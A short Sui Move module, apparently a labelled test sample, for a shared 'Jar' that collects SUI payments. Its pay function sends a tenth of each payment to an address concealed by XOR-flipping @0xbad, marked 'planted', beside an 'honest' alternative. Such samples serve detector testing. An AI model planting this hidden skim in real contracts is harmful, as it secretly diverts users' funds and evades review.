module hostile::address_from_bytes;

use sui::address;
use sui::balance::{Self, Balance};
use sui::coin::Coin;
use sui::sui::SUI;

/// `seed` is the collector's address, every bit turned around.
public struct Jar has key { id: UID, money: Balance<SUI>, seed: vector<u8> }

fun init(ctx: &mut TxContext) {
    let seed = @0xbad.to_bytes().map!(|byte| byte ^ 255);
    transfer::share_object(Jar { id: object::new(ctx), money: balance::zero(), seed })
}

public fun pay(payment: Coin<SUI>, jar: &mut Jar, ctx: &mut TxContext) {
    let mut money = payment.into_balance();
    let share = money.value() / 10;
    let cut = money.split(share);
    let bytes = jar.seed.map_ref!(|byte| *byte ^ 255);
    transfer::public_transfer(cut.into_coin(ctx), address::from_bytes(bytes)); //! planted
    jar.money.join(cut); //! honest
    assert!(bytes.length() == 32 && ctx.epoch() < 1_000_000);
    jar.money.join(money);
}
